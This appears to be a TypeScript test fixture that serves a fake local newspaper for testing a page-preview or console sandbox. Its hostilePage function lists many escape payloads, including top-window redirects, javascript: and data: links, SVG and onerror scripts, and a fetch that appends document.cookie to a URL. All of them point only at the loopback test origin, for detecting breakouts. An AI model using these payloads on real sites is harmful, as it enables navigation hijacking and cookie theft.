import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface NewsSite {
  /** `http://127.0.0.1:port` */
  readonly origin: string;
  readonly port: number;
  /** Requested paths. */
  readonly requests: readonly string[];
  close(): Promise<void>;
}

const ARTICLES = [
  { title: 'Harbour opens its new tide gate', author: 'Ada Marlow', day: '2026-03-02' },
  { title: 'Library trades late fees for reading hours', author: 'Tomas Reyes', day: '2026-03-05' },
  { title: 'Night trains return to the valley line', author: 'Ines Aalto', day: '2026-03-09' },
  { title: 'Bakers agree on a common flour', author: 'Ada Marlow', day: '2026-03-12' },
] as const;

const PARAGRAPHS = [
  'The decision had been expected for months, yet the room was full when the council met on Monday evening and the vote was called without further debate.',
  'Engineers spent two winters measuring how the ground moves under load, and their report, published in full last week, answers most of the questions that residents had sent in.',
  'Work begins in early summer and should take about a year. The first stretch stays open to pedestrians throughout, while traffic is led around by the old mill road.',
  'Not everybody is convinced. Shopkeepers fear a quiet season, and asked for signs at both ends of the detour, which the council promised to put up before the first lorry arrives.',
];

/** A page that attacks the console; every successful attack requests a path of this site. */
export function hostilePage(origin: string): string {
  return `<!doctype html><html><head><title>Hostile page</title>
<meta http-equiv="refresh" content="0; url=${origin}/reached/refresh">
<base href="${origin}/reached/" target="_top">
<link rel="stylesheet" href="${origin}/reached/style.css">
<style>@import url("${origin}/reached/import.css"); body { background: url("${origin}/reached/background.png"); }</style>
<script>document.title = 'ran'; fetch('${origin}/reached/fetch?' + document.cookie); top.location = '${origin}/reached/top';</script>
</head><body onload="top.location='${origin}/reached/onload'">
<h1>Hostile page</h1>
<p>${PARAGRAPHS.join('</p><p>')}</p>
<a id="link" href="${origin}/reached/link">An ordinary link</a>
<a id="script-link" href="javascript:top.location='${origin}/reached/javascript'">A script link</a>
<a id="top-link" target="_top" href="${origin}/reached/top-link">A link for the whole window</a>
<a id="data-link" href="data:text/html,<script>parent.location='${origin}/reached/data'</script>">A data link</a>
<form id="form" action="${origin}/reached/form" method="post"><input name="a" value="b"><button id="submit">Send</button></form>
<iframe src="${origin}/reached/frame"></iframe>
<object data="${origin}/reached/object"></object><embed src="${origin}/reached/embed">
<img src="${origin}/reached/image.png" onerror="top.location='${origin}/reached/onerror'" alt="A picture">
<svg><a xlink:href="javascript:top.location='${origin}/reached/svg'"><text y="20">svg</text></a>
<animate attributeName="href" values="javascript:alert(1)"/><script>top.location='${origin}/reached/svg-script'</script></svg>
<video src="${origin}/reached/video" autoplay></video>
<script>if (top !== self) { top.location = '${origin}/reached/frame-busting'; }</script>
<template><script>top.location='${origin}/reached/template'</script></template>
<noscript><meta http-equiv="refresh" content="0; url=${origin}/reached/noscript"></noscript>
</body></html>`;
}

const NOT_FOUND = '<!doctype html><title>Not here</title><h1>Not here</h1><p>This page does not exist.</p>';

const OTHERS: Readonly<Record<string, (origin: string) => string>> = {
  '/hostile': hostilePage,
  '/': frontPage,
  '/archive': archivePage,
  '/ar/1': arabicPage,
  '/members': membersPage,
  '/hook': () => 'thanks',
};

function membersPage(): string {
  return `<!doctype html><html lang="en"><title>Sign in</title><main><h1>Sign in to Valley news</h1>
<form method="post"><label>E-mail <input name="user"></label><label>Password <input type="password"></label><button>Sign in</button></form>
<p>You must be signed in to read this page. New here? <a href="/join">Create an account</a></p></main></html>`;
}

/** A small newspaper on loopback, with a hostile page among its articles. */
export async function startNewsSite(): Promise<NewsSite> {
  const requests: string[] = [];
  let origin = '';
  const server = createServer((request, response) => {
    const path = request.url ?? '/';
    requests.push(path);
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    const index = ARTICLES.findIndex((_, number) => path === `/news/${number + 1}`);
    const page = index >= 0 ? articlePage(index) : OTHERS[path]?.(origin);
    if (page === undefined) response.statusCode = 404;
    response.end(page ?? NOT_FOUND);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  origin = `http://127.0.0.1:${port}`;
  return {
    origin,
    port,
    requests,
    close: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

const STYLE = `body{font:17px/1.6 Georgia,serif;margin:0;color:#222}header,footer{background:#23395d;color:#fff;padding:12px 32px}
nav a{color:#cfe0ff;margin-right:16px}main{max-width:680px;margin:24px auto;padding:0 20px}.byline{color:#666}aside{background:#f1ede4;padding:10px 16px;margin:24px 0}`;

function articlePage(index: number): string {
  const { title, author, day } = ARTICLES[index] ?? ARTICLES[0];
  const others = ARTICLES.filter((_, number) => number !== index);
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title} – The Valley Paper</title>
<meta name="description" content="${title}: what was decided, and what comes next.">
<meta property="article:published_time" content="${day}T07:30:00+01:00"><meta name="author" content="${author}">
<style>${STYLE}</style></head><body>
<header><strong>The Valley Paper</strong><nav><a href="/">Front page</a><a href="/news/1">Town</a><a href="/news/2">Culture</a></nav></header>
<main><article><h1 class="headline">${title}</h1><p class="byline">By <span class="author">${author}</span>, <time datetime="${day}T07:30:00+01:00">${day}</time></p>
<div class="body">${PARAGRAPHS.map((text) => `<p>${text}</p>`).join('\n')}</div></article>
<aside><h2>More news</h2><ul>${others.map((one) => `<li><a href="/news/${ARTICLES.indexOf(one) + 1}">${one.title}</a></li>`).join('')}</ul></aside></main>
<footer>The Valley Paper, since 1911. Imprint, privacy, subscriptions.</footer></body></html>`;
}

function frontPage(): string {
  const items = ARTICLES.map((one, index) => `<li><a href="/news/${index + 1}">${one.title}</a></li>`).join('');
  return `<!doctype html><html lang="en"><head><title>The Valley Paper</title></head><body><h1>The Valley Paper</h1><ul>${items}</ul></body></html>`;
}

/** A page with more list items than the URL of a preview can name. */
function archivePage(): string {
  const items = Array.from({ length: 5000 }, (_, index) => `<li>Issue ${index + 1}</li>`).join('');
  return `<!doctype html><html lang="en"><head><title>Archive</title></head><body><h1 class="headline">Archive</h1><div class="body"><p>${PARAGRAPHS.join('</p><p>')}</p></div><ul>${items}</ul></body></html>`;
}

/** A right-to-left article. */
function arabicPage(): string {
  const paragraph =
    'أعلن المجلس البلدي مساء الاثنين أن أعمال بناء الجسر الجديد ستبدأ في أوائل الصيف وتستمر نحو عام كامل، على أن يبقى الجزء الأول مفتوحا للمشاة طوال هذه المدة.';
  return `<!doctype html><html lang="ar" dir="rtl"><head><title>الجسر الجديد</title></head>
<body><article><h1>الجسر الجديد يبدأ هذا الصيف</h1>${`<p>${paragraph}</p>`.repeat(4)}</article></body></html>`;
}
